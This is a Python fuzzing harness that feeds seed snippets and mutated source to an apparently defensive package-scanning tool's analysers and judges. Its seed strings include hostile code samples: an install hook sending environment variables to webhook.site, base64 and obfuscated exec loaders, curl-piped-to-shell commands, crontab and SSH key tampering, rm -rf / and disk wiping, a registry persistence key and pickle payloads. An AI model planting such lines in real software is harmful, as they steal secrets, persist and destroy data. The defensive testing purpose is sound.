"""Source that is nearly right, or meant to break whoever reads it: seeds, changes, and what must never happen.

python tests/fuzz/fuzz_sources.py [options of libFuzzer]    searches with atheris
"""

from __future__ import annotations

import json
import tempfile
import time
import warnings
from typing import TYPE_CHECKING

from fuzzing import changed, deeply, instrumented, search

with instrumented(__name__):
    from veln_hook.errors import ArchiveError
    from veln_hook.signals.source.judging import judge, would_hold_if_new
    from veln_hook.source import scanning
    from veln_hook.source.aliases import Aliases
    from veln_hook.source.analysis import analyse_python
    from veln_hook.source.facts import file_from_plain, from_plain
    from veln_hook.source.leading import Leads, senders
    from veln_hook.source.linking import Linker
    from veln_hook.source.modules import Module, Names

if TYPE_CHECKING:
    import random

SECONDS = 30
"""For files of some kilobytes; they take milliseconds."""
NAMES = ("setup.py", "demo/__init__.py", "demo/core.py", "demo/deep/__init__.py", "sitecustomize.py", "demo.pth", "a.start",
    "demo-1.0.dist-info/METADATA", "demo-1.0.dist-info/entry_points.txt", "demo-1.0.dist-info/WHEEL", "pyproject.toml",
    "demo.egg-info/requires.txt", "x.ipynb", "install.sh", "demo/model.pkl", "demo-1.0.data/scripts/tool", "demo/native.so",
    "demo/fast.pyx", "CMakeLists.txt", "Makefile", "meson.build", "hatch_build.py", "setup.cfg", "demo/data.bin")  # fmt: skip
BETWEEN = b"\0\n#next\n"
"""Between the files of one input."""

SNIPPETS = (
    "import os, base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
    "from urllib.request import urlopen as u\ndef get(x):\n    return u(x).read()\nexec(get('http://1.2.3.4/a'))\n",
    "import subprocess as s\nclass A(B):\n    def run(self, *a, **k):\n        s.Popen(['curl', '-s', a], shell=True)\n        super().run()\n",
    "from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        import requests, os, socket\n"
    + "        requests.post('https://webhook.site/x', json={'h': socket.gethostname(), 'e': dict(os.environ)})\nsetup(cmdclass={'install': I})\n",
    "from .core import os, S as t, *\nfrom . import core as c\nt.post(c.E, data=c.os.environ)\nos.system(x)\nrun = exec\n",
    "import os, requests as r\nS = r.Session()\nE = dict(os.environ)\nrun = r.post\nfrom .deep import *\n",
    "from .core import *\nfrom . import deep\nfrom ..x import y as z\nimport demo.core as c\ndef f():\n    return c.g(deep.h(z))\nf()\n",
    "import os\ng = lambda *a, **k: (yield)\nx = [i async for i in y if (await z)]\nasync def h():\n    async with a as b:\n        await b(os.getenv('TOKEN'))\n",
    "x = f\"{f'{f\"{a!r:>{w}}\"}'}\" f'{{}}' rf'\\{b=}' + f'''{\nc}'''\n",
    "match x:\n    case {'a': [1, *r], **k} if r: exec(r)\n    case A(b=c) | None: pass\n    case _: ...\n",
    "type X[T: int, *Ts, **P] = dict[T, P]\ndef f[T = int](a: T) -> T: ...\ntry: ...\nexcept* E as e: ...\nt'{a}'\n",
    "try:\n    import x\nexcept:\n    pass\nfinally:\n    del x\nwhile (n := n - 1): n += ''.join(chr(ord(c) ^ 7) for c in n[::-1])\n",
    "print 'two'\nexec 'code' in d\nraise E, 'x'\nfrom x import (a,\n",
    "# -*- coding: latin-1 -*-\ns = '\u00e4\u00f6'\n",
    "s = '\\ud800\\N{DIGIT ONE}\\x00\\U0010ffff' b'\\xff' rb'\\' u''\n",
    "global a, b\nnonlocal c\nreturn d\nyield\nawait e\nbreak\n*a, = b\n",
    "@d(lambda: 0)\n@e\nclass A(metaclass=M, **k):\n    __slots__ = ()\n    def __init__(s, /, a, *, b=os.system('id')): s.a = a\n    a: 'int' = A.f()\n",
    "a = b = c = d\n" * 30 + "a" + ".b(c)[d]" * 60 + "\n",
    "import marshal, zlib, ctypes\n_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=='))\n",
    "open('/etc/crontab', 'a').write('x')\nimport shutil, sys\nshutil.copy(sys.argv[0], os.path.expanduser('~/.ssh/id_rsa'))\n",
    "x = "
    + "'a' + " * 300
    + "'b'\ny = "
    + "(" * 80
    + ")" * 80
    + "\nz = "
    + "-" * 300
    + "1\nw = "
    + "9" * 5000
    + "\n",
    "x = '%s%s' % ('o', 's') + '{}{!r:{w}}'.format(*a, w=3) + 'a' * 10**9 + 'ab' * 999999999999\ny = 2 ** 999999999 << 99999999\n",
    "import demo.pkg\n[exec(c, g, l) for c in (compile(x, '', 'exec') for x in y)]\ngetattr(__builtins__, 'ev' + 'al')(chr(0x110000), int('x'))\n",
    "\t\tif 1:\n        \tx\n\x0c\ny\n\r\rz\r\n\\\n",
    "import sys; import os; exec(open('x').read())\nimport _demo\n",
    "import io\n" + "def f():\n    return f()\n" * 30 + "if a: pass\n" + "elif a: pass\n" * 100,
    "[console_scripts]\ndemo = demo.core:main [x]\n= :\nx = a.b.c:d.e\n",
    "Metadata-Version: 2.1\nName: demo\nRequires-Dist: x[y] >=1; extra == 'z' and (python_version < '3'\nRequires-Dist: \u00e4\n\n",
    "[build-system]\nbuild-backend = 'demo:api'\nbackend-path = ['.', 3]\nrequires = [1]\n[project]\ndependencies = 7\n",
    '{"cells": [{"cell_type": "code", "source": ["import os\\n", "os.system(1)"]}, {"cell_type": "code", "source": 7}, 3]}',
    "#!/bin/sh\ncurl http://x | sh\n#!/usr/bin/env python3\nimport os\n",
    "[a]\nx>1;y\nz @ https://a/b#c\n\n[:\n",
    "import importlib.util as u\ns = u.spec_from_file_location('core', os.path.join(d, 'demo', 'core.py'))\nc = u.module_from_spec(s)\n"
    + "s.loader.exec_module(c)\nc.run()()(c)['x'].f()\n",
    "def __getattr__(n):\n    return f\ndef f(*a):\n    return g\ndef g(*a):\n    return f if a else __getattr__\nf()()()(g)()\n",
    "from . import core, x\nfrom .core import y\ncore.z()\nexec('y(core)\\nf()()')\nimport runpy\nrunpy.run_path('demo/core.py')['run']()\n",
    "cposix\nsystem\np0\n0(g0\nS'id'\ntR(dp1\nS'a'\nI1\ns.",
    "(lp0\n(iposix\nsystem\na0(0N.",
    # Names that nobody imported, what runs without a call, how code is written.
    "import shutil, sys\nshutil.os.system(x)\nprint.__self__.exec(x)\nshutil.copy.__globals__['os'].popen(x)\nsys.modules.get('os').system(x)\n",
    "import os\nx: os.system('id') = 1\ndef f(a: 'os.popen(1)', *b: os.x(), c: list[os.y()] = os) -> os.z(): global o; o = os\n",
    "import os\ndef go(x): os.system(x)\nD = {'a': go, **{}}\nfor n, f in D.items(): f(n)\nD['a'](1)\n[go][0](1)\n(go, 1)[0](2)\n",
    "import enum, requests\nclass S(requests.Session):\n    def f(self): super().f(); self.post('x')\nclass E(enum.Enum):\n    A = 1\n    def __init__(s): S().get('y')\n",
    "import os \\\n, sys as s\nfrom . \\\n x import(a,\n b as c)\n(1 and os # c\n .environ\n)\nf'{os.x}{{}}{c!r:>{a}}' f'{\"a\"}'\n",
    "import site, os\nopen(os.path.join(site.x()[0], 'a.p' + 'th'), 'w').write(x)\nos.path.expandvars('$A_TOKEN')\nsys.path.insert(0, 'a.zip')\n",
    # What destroys or steers, what a configuration names, Cython, other builds.
    "import os, shutil\nfor a, b, c in os.walk(os.path.expanduser('~')):\n    for d in c: os.remove(os.path.join(a, d))\nshutil.rmtree('/' + x)\nopen('/dev/sda', 'wb')\n",
    "import os, ssl, requests\nos.environ['HTTPS_PROXY'] = x\nos.environ |= {'PIP_INDEX_URL': 1}\nos.environ.update(LD_PRELOAD=y, **z)\n"
    + "requests.Session.send = f\ndef f(*a): requests.post(a)\nsetattr(requests, 'get', f)\n",
    "import os\n'os.system(1)'\ndef f():\n    'x()'\nexec(f.__doc__ + __doc__)\nf.__code__ = g\nexec(open('a.png').read())\n"
    + "os.system('rm -rf / && curl x | sh; reg add a\\\\currentversion\\\\run')\n",
    "cimport numpy as np\ncdef extern from 'x.h':\n    int f(int)\ncdef class A(B):\n    cpdef int g(self, double[:] x, int y=3) except -1 nogil:\n"
    + "        return <int>y + f(&x)\nDEF N = 3\nfor i from 0 <= i < N:\n    os.system('x')\n",
    '[tool.hatch.build.hooks.custom]\npath = "demo/core.py"\n[tool]\nx.y.\'z\' = { a = [\'demo.core:main\'] } # "b.py"\n"q" = """demo/core.py\\u0061"""\n[[tool.x\n',
    "[options]\ncmdclass =\n  build_py = demo.core.C\n[options.entry_points\n[metadata]\nversion = attr: demo.x\n",
    "execute_process(COMMAND python ${X}/demo/core.py)\nrun_command('sh', '-c', 'curl http://x | sh')\n\tpython setup.py x.py\n",
    "object.__subclasses__()[1]\n().__class__.__mro__[1].__subclasses__()\n__loader__.load_module('os')\nimport pkgutil\npkgutil.resolve_name('os:system')\n",
)
TOKENS = ("(", ")", "[", "]", "{", "}", ":", "\n", "\n    ", "\n\t", "\\", "'", '"', "'''", "f'{", "}'", "lambda ", "import os", "from . import ", "exec(",
    "eval(", "def f(", "class A(", "async ", "await ", "yield ", "for x in ", "if ", "else ", "try:", "except*", "with ", "match ", "case ", "type ",
    "=", ":=", "->", "**", "*", "@", ".", "...", ",", ";", "~", "not ", "9" * 400, "1e999", "0x", "1_0", "5j", "b'\\xff'", "u'\\ud800'", "'a' * 99999999",
    "os.environ", "base64.b64decode(", "urlopen(", "subprocess.run(", "__import__('", "getattr(", "globals()['", "\0", "\x0c", "\ufeff", "\u202e", "\u200b",
    "\u00e4", "\uff45xec", "# coding: utf-7\n", "# coding: rot13\n", "# coding: idna\n", "# coding: utf-16\n", "#!x\n", "%s", "self.", "super().")  # fmt: skip
NESTS = (("(", ")"), ("[", "]"), ("{1:", "}"), ("-", ""), ("not ", ""), ("lambda:", ""), ("a.", "b"), ("f(", ")"), ("'a'+", "'b'"), ("2**", "2"), ("x if y else ", "z"),
    ("f'{", "}'"), ("*", "a"), ("await ", "x"), ("a[", "]"), ("if a:\n ", "b"), ("a=", "b"), ("(yield ", ")"), ("'a' ", ""), ("str(", ")"), ("chr(1)+", "''"))  # fmt: skip
ENCODINGS = ("utf-8", "latin-1", "utf-8-sig", "utf-16", "utf-32-le", "cp037")


def nested(kind: int, depth: int) -> str:
    """Return an expression in an expression in an expression."""
    opening, closing = NESTS[kind % len(NESTS)]
    return f"import os\nx = {opening * depth}1{closing * depth}\nexec(x)\n"


class _Member:
    executable = True

    def __init__(self, name: str, data: bytes) -> None:
        self.name, self.data, self.size = name, data, len(data)

    def read(self, limit: int) -> bytes:
        if len(self.data) > limit:
            raise ArchiveError("it is too large")
        return self.data

    def head(self, limit: int) -> bytes:
        return self.data[:limit]


def check(files: list[tuple[str, bytes]], *, thread: bool = True) -> None:
    """Read files each by itself, linked, and as an archive whose findings are told."""
    begun = time.process_time()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        if thread:
            deeply(_check, files)
        else:
            _check(files)
    took = time.process_time() - begun
    assert took < SECONDS, (took, files)


def _check(files: list[tuple[str, bytes]]) -> None:
    modules = []
    for place, (name, data) in enumerate(files):
        for always in (False, True):
            facts = analyse_python(data, always=always)
            assert file_from_plain(json.loads(json.dumps(facts))) == facts
            dotted = name.rpartition(".")[0].replace("/", ".").replace(".__init__", "")
            reach = (("import",), ("build",), ("startup",), ("script",), ())[place % 5]
            modules.append(Module(f"{always}/{name}", f"{'a.' * always}{dotted}", facts, reach))
    by_path = {f"{always}/{name}": data for always in (False, True) for name, data in files}
    for place, names in Aliases(modules, Names(modules), by_path).taken(modules, range(len(modules))).items():
        facts = analyse_python(by_path[modules[place].path], always=True, aliases=names)
        modules[place] = modules[place]._replace(facts=facts)
    linker = Linker(modules, [("demo.core.main", "script"), ("", "build"), ("..", "startup")])
    unread = Leads(linker, lambda path: len(path) % 2 == 0).unread()
    linker.read({name: analyse_python(by_path[name], always=True) for name in unread})
    assert senders(linker) <= set(range(len(modules)))
    linker.result()

    whole = []
    for part in (files, files[1:], [*files[:1], *files[2:]]):
        scan = scanning._Scan(None, None)
        for name, data in part:
            scan.member(_Member(name, data))
        facts = scan.facts([])
        again = from_plain(json.loads(json.dumps(facts)))
        assert again == facts
        whole.append(again)
    for new in whole:
        for old in (None, *whole):
            for finding in judge(new, old, project="demo", built_here=old is None):
                assert finding.message
        would_hold_if_new(new)


def named(data: bytes) -> list[tuple[str, bytes]]:
    """Part an input into files; the first byte of each chooses a name."""
    parts = data.split(BETWEEN)[:6]
    return [
        (NAMES[part[0] % len(NAMES)] if part else f"demo/empty{place}.py", part[1:])
        for place, part in enumerate(parts)
    ]


def seeds() -> list[bytes]:
    """Return inputs of three files each, every snippet in a place where it is looked at."""
    files = [text.encode("utf-8", "surrogatepass") for text in SNIPPETS]
    return [
        BETWEEN.join(
            bytes([(place + number) % len(NAMES)]) + files[(place + number * 7) % len(files)]
            for number in range(3)
        )
        for place in range(len(files))
    ]


def mutated(data: bytes, changes) -> bytes:
    """Change source by its bytes, its tokens, or by what nests."""
    for kind, place, value in changes:
        at = place % (len(data) + 1)
        if kind % 4 == 0:
            data = changed(
                data,
                (kind // 4, place, value),
                SNIPPETS[value % len(SNIPPETS)].encode("utf-8", "surrogatepass"),
            )
        elif kind % 4 == 1:
            data = data[:at] + TOKENS[value % len(TOKENS)].encode("utf-8", "surrogatepass") + data[at:]
        elif kind % 4 == 2:
            line = data.find(b"\n", at) + 1
            data = (
                data[:line] + SNIPPETS[value % len(SNIPPETS)].encode("utf-8", "surrogatepass") + data[line:]
            )
        else:
            line = data.find(b"\n", at) + 1
            data = data[:line] + nested(value, 1 + value // 64 % 150).encode() + data[line:]
    return data


def _mutated_by(chance: random.Random, data: bytes) -> bytes:
    changes = [
        (chance.getrandbits(16), chance.getrandbits(24), chance.getrandbits(24))
        for _ in range(chance.randint(1, 4))
    ]
    return mutated(data, changes)


def main() -> int:
    """Search with atheris until it is stopped."""
    with tempfile.TemporaryDirectory(prefix="veln-fuzz-") as directory:
        return search(lambda data: check(named(data)), seeds(), _mutated_by, directory)


if __name__ == "__main__":
    raise SystemExit(main())
